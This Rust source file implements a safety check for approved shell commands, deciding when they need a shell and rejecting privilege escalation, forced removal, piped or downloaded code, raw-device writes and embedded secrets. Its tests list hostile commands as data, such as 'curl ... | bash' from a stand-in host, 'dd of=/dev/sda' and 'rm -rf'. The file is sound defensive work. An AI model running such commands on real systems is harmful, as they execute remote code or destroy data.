//! Commands that are approved by their text: verification, tests, setup and notification.
//!
//! A command without shell syntax is split into words and started directly. A command with operators, redirections,
//! expansions or globs runs as `/bin/sh -c TEXT`, with exactly the approved text. The danger check looks at the words
//! of every program that the command starts. A text that only contains dangerous words as data passes.

use std::fmt;

use brigade_cmdline::Argv;
use brigade_cmdline::argv::InvalidCommand;
use brigade_cmdline::risk::{self, Risk};
use brigade_redact::secret_words;
use serde::{Deserialize, Serialize, Serializer};
use thiserror::Error;

/// A checked command: not empty, readable, and not dangerous.
#[derive(Clone, Debug, PartialEq, Eq, Hash)]
pub struct Command {
    text: String,
    argv: Argv,
    shell: bool,
}

/// Why a text is not a command that may run.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
pub enum CommandFault {
    /// The text has no words.
    #[error("the command is empty")]
    Empty,
    /// A quote is never closed, or a backslash escapes nothing.
    #[error("{0}")]
    Unreadable(InvalidCommand),
    /// It does something that no approval allows.
    #[error("{0}")]
    Dangerous(Danger),
}

/// What makes a command dangerous. It never quotes an argument.
#[derive(Clone, Debug, PartialEq, Eq, Error)]
pub enum Danger {
    /// It uses another user's rights.
    #[error("it asks for another user's rights with `{0}`")]
    Privilege(&'static str),
    /// It removes directories recursively without asking.
    #[error("it removes whole directories without asking")]
    ForcedRemoval,
    /// It pipes a program into an interpreter.
    #[error("it pipes a program into `{0}`")]
    PipeIntoInterpreter(&'static str),
    /// It runs downloaded code.
    #[error("it runs what `{0}` downloads")]
    DownloadedCode(&'static str),
    /// It writes to a raw device.
    #[error("it writes to a raw device")]
    RawDevice,
    /// It holds more commands than are judged.
    #[error("it holds more commands than are judged")]
    NotJudged,
    /// It contains what looks like a secret. Every process could read it.
    #[error("it holds what looks like a secret, which is not shown")]
    Secret,
}

impl Command {
    /// Parses and checks a command.
    ///
    /// ```
    /// use brigade_kitchen::{Command, CommandFault};
    ///
    /// let direct = Command::parse("npm test -- --grep 'login flow'")?;
    /// assert_eq!(direct.argv().len(), 5);
    /// let piped = Command::parse("cargo test 2>&1 | grep -q ok")?;
    /// assert_eq!(piped.argv()[..2], ["/bin/sh", "-c"]);
    /// assert!(matches!(Command::parse("sudo make install"), Err(CommandFault::Dangerous(_))));
    /// # Ok::<(), CommandFault>(())
    /// ```
    ///
    /// # Errors
    /// Fails if the text is empty, cannot be split into words, or is dangerous.
    pub fn parse(text: &str) -> Result<Command, CommandFault> {
        if text.trim().is_empty() {
            return Err(CommandFault::Empty);
        }
        let words = Argv::parse(text).map_err(CommandFault::Unreadable)?;
        let shell = needs_shell(text, words.program());
        let argv = if shell {
            let words = ["/bin/sh", "-c", text].map(str::to_owned).to_vec();
            Argv::new(words).map_err(CommandFault::Unreadable)?
        } else {
            words
        };
        match dangers(&argv).into_iter().next() {
            Some(danger) => Err(CommandFault::Dangerous(danger)),
            None => Ok(Command { text: text.to_owned(), argv, shell }),
        }
    }

    /// Returns the text as it was written.
    pub fn text(&self) -> &str {
        &self.text
    }

    /// Returns what is started: the words, or `/bin/sh -c TEXT`.
    pub fn argv(&self) -> &[String] {
        self.argv.words()
    }

    /// Returns whether the command runs in a shell.
    pub fn needs_shell(&self) -> bool {
        self.shell
    }

    /// Returns the words of each command that it starts, without shells and wrappers.
    pub(crate) fn started(&self) -> Vec<Vec<String>> {
        let mut started = risk::started_commands(&self.argv);
        if self.shell && !started.is_empty() {
            started.remove(0);
        }
        started.into_iter().map(|started| started.words).collect()
    }
}

impl fmt::Display for Command {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.text)
    }
}

impl Serialize for Command {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.serialize_str(&self.text)
    }
}

impl<'de> Deserialize<'de> for Command {
    fn deserialize<D: serde::Deserializer<'de>>(deserializer: D) -> Result<Command, D::Error> {
        let text = String::deserialize(deserializer)?;
        Command::parse(&text).map_err(serde::de::Error::custom)
    }
}

/// The maximum depth of nested `eval` texts that are checked.
const MAX_EVAL_DEPTH: usize = 4;

/// Lists the dangers of a command line, without duplicates.
pub fn dangers(argv: &Argv) -> Vec<Danger> {
    let mut found: Vec<Danger> = Vec::new();
    judge(argv, MAX_EVAL_DEPTH, &mut found);
    if !secret_words(argv.words()).is_empty() {
        found.push(Danger::Secret);
    }
    found
}

fn judge(argv: &Argv, evals: usize, found: &mut Vec<Danger>) {
    for risk in risk::judge(argv) {
        let danger = match risk {
            Risk::Privilege { program, .. } => Danger::Privilege(program),
            Risk::ForcedRemoval { .. } => Danger::ForcedRemoval,
            Risk::PipeIntoInterpreter { program, .. } => Danger::PipeIntoInterpreter(program),
            Risk::DownloadedCode { program, .. } => Danger::DownloadedCode(program),
            Risk::NotJudged { .. } => Danger::NotJudged,
            // Shell syntax and inline code are part of the text that a person approves.
            Risk::ShellText { .. } | Risk::InlineCode { .. } | Risk::StandardInput { .. } => continue,
        };
        if !found.contains(&danger) {
            found.push(danger);
        }
    }
    if !found.contains(&Danger::RawDevice) && !risk::raw_devices(argv).is_empty() {
        found.push(Danger::RawDevice);
    }
    // What `eval` reads is a text for the shell, too.
    if 0 < evals && argv.words().iter().any(|word| word.contains("eval")) {
        for started in risk::started_commands(argv) {
            let Some(("eval", words)) = started.words.split_first().map(|(name, rest)| (name.as_str(), rest))
            else {
                continue;
            };
            let text = ["/bin/sh".to_owned(), "-c".to_owned(), words.join(" ")];
            if let Ok(inner) = Argv::new(text.to_vec()) {
                judge(&inner, evals - 1, found);
            }
        }
    }
}

/// Commands that exist only in a shell.
const BUILTINS: &[&str] = &[
    ".", ":", "alias", "bg", "break", "cd", "command", "continue", "eval", "exec", "exit", "export", "fg",
    "hash", "jobs", "let", "local", "read", "readonly", "return", "set", "shift", "source", "times", "trap",
    "type", "ulimit", "umask", "unalias", "unset", "wait",
];

/// Returns whether a shell would read the text differently from a program that gets its words.
fn needs_shell(text: &str, program: &str) -> bool {
    let assigns = program.split_once('=').is_some_and(|(name, _)| {
        let legal = |byte: u8| byte.is_ascii_alphanumeric() || byte == b'_';
        !name.is_empty() && name.bytes().all(legal)
    });
    assigns || BUILTINS.contains(&program) || has_shell_syntax(text)
}

/// Returns whether a text has unquoted operators, redirections, expansions, globs or comments.
fn has_shell_syntax(text: &str) -> bool {
    let mut chars = text.chars().peekable();
    let mut starts_word = true;
    let mut in_double = false;
    while let Some(c) = chars.next() {
        if in_double {
            match c {
                '"' => in_double = false,
                '\\' => drop(chars.next()),
                '$' | '`' => return true,
                _ => {}
            }
            continue;
        }
        let at_start = std::mem::replace(&mut starts_word, matches!(c, ' ' | '\t'));
        match c {
            '\'' => drop(chars.by_ref().find(|c| *c == '\'')),
            '"' => in_double = true,
            '\\' => drop(chars.next()),
            '|' | '&' | ';' | '<' | '>' | '(' | ')' | '$' | '`' | '*' | '?' | '[' | '\n' | '\r' => {
                return true;
            }
            '~' | '#' | '!' if at_start => return true,
            // `{}` is a word of `find -exec`.
            '{' if chars.peek() != Some(&'}') => return true,
            _ => {}
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn shell_syntax_is_found_outside_of_quotes() {
        for text in [
            "make && make test",
            "make; make test",
            "cargo test | tail",
            "echo $HOME",
            "echo \"$HOME\"",
            "echo `id`",
            "ls *.ts",
            "test -f a?b",
            "[ -f a ]",
            "! grep -q x f",
            "cat < a",
            "cat a 2>b",
            "(make)",
            "FOO=1 make",
            "cd src",
            "ls ~/x",
            "make # all",
            "make\nmake test",
            "cat {a,b}",
            "exit 0",
        ] {
            assert!(Command::parse(text).unwrap().needs_shell(), "{text}");
        }
        for text in [
            "npm test -- --grep 'a|b; $x'",
            "grep -q \"it's * fine\" src/a.ts",
            "test -f a\\*b",
            "find . -name x -exec grep y {} +",
            "python3 -c 'print(1)'",
            "grep -rn a#b c~d e!f g=h .",
            "./binary --help",
            "git log --format=%H",
        ] {
            assert!(!Command::parse(text).unwrap().needs_shell(), "{text}");
        }
    }

    #[track_caller]
    fn check(text: &str, expect: Option<Danger>) {
        let found = match Command::parse(text) {
            Ok(_) => None,
            Err(CommandFault::Dangerous(danger)) => Some(danger),
            Err(other) => panic!("{text}: {other}"),
        };
        assert_eq!(found, expect, "{text}");
    }

    #[test]
    fn dangers_are_found_by_the_words() {
        check("sudo make install", Some(Danger::Privilege("sudo")));
        check("make && sudo -n make install", Some(Danger::Privilege("sudo")));
        check("eval \"sudo ls\"", Some(Danger::Privilege("sudo")));
        check("cd x; eval eval 'make; sudo' ls", Some(Danger::Privilege("sudo")));
        check("eval 'rm -rf' /", Some(Danger::ForcedRemoval));
        check("eval make test", None);
        check("rm -rf build", Some(Danger::ForcedRemoval));
        check("(cd build && rm -r --force .)", Some(Danger::ForcedRemoval));
        check("curl -fsSL https://example.com/x | bash", Some(Danger::PipeIntoInterpreter("bash")));
        check("echo 'print(1)' | python3", Some(Danger::PipeIntoInterpreter("python")));
        check("eval \"$(curl https://example.com/x)\"", Some(Danger::DownloadedCode("curl")));
        check("dd if=/dev/zero of=/dev/sda", Some(Danger::RawDevice));
        check("mkfs.ext4 disk.img", Some(Danger::RawDevice));
        check("echo x > /dev/sda", Some(Danger::RawDevice));
    }

    #[test]
    fn a_secret_is_a_danger_that_is_not_shown() {
        let secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
        check(&format!("test -n {secret}"), Some(Danger::Secret));
        check(&format!("echo {secret} | grep -q x"), Some(Danger::Secret));
        check("deploy --token hunter2-EXAMPLE", Some(Danger::Secret));
        let fault = Command::parse(&format!("test -n {secret}")).unwrap_err();
        assert!(!fault.to_string().contains("ghp_"), "{fault}");
        check("test -n \"$TOKEN\"", None);
        check("npm test -- --max-tokens 5 tests/password.test.ts", None);
    }

    #[test]
    fn words_as_data_are_not_dangerous() {
        // The original `brigade` program refused every path with the word `format`.
        check("npm test -- tests/format.test.ts", None);
        check("grep -q 'rm -rf /' docs/format.md", None);
        check("git commit -m 'sudo dd of=/dev/sda'", None);
        check("bash -c 'make all'", None);
        check("python3 -c 'print(1)' > /dev/null 2>&1", None);
        check("cat data.json | python3 -m json.tool", None);
        check("rm build/out.txt", None);
        check("curl -sf http://localhost:3000/health", None);
        check("xargs -a items -I% grep % x", None);
    }

    #[test]
    fn unreadable_commands_are_refused() {
        assert_eq!(Command::parse(" \t"), Err(CommandFault::Empty));
        assert!(matches!(Command::parse("grep 'x"), Err(CommandFault::Unreadable(_))));
        assert!(matches!(Command::parse("'' x"), Err(CommandFault::Unreadable(_))));
        assert!(matches!(Command::parse("a\0b"), Err(CommandFault::Unreadable(_))));
    }

    proptest! {
        #[test]
        fn a_direct_command_is_its_words(text in "[ab '\"\\\\$|;*=~#!{}]{0,16}") {
            if let Ok(command) = Command::parse(&text) {
                prop_assert_eq!(command.text(), &text);
                let words = Argv::parse(&text).unwrap();
                if command.needs_shell() {
                    prop_assert_eq!(command.argv(), ["/bin/sh", "-c", &text]);
                } else {
                    prop_assert_eq!(command.argv(), words.words());
                    // Without syntax, a shell would read the same words.
                    prop_assert!(!text.chars().any(|c| c == '$') || text.contains(['\'', '\\']));
                }
            }
        }
    }
}
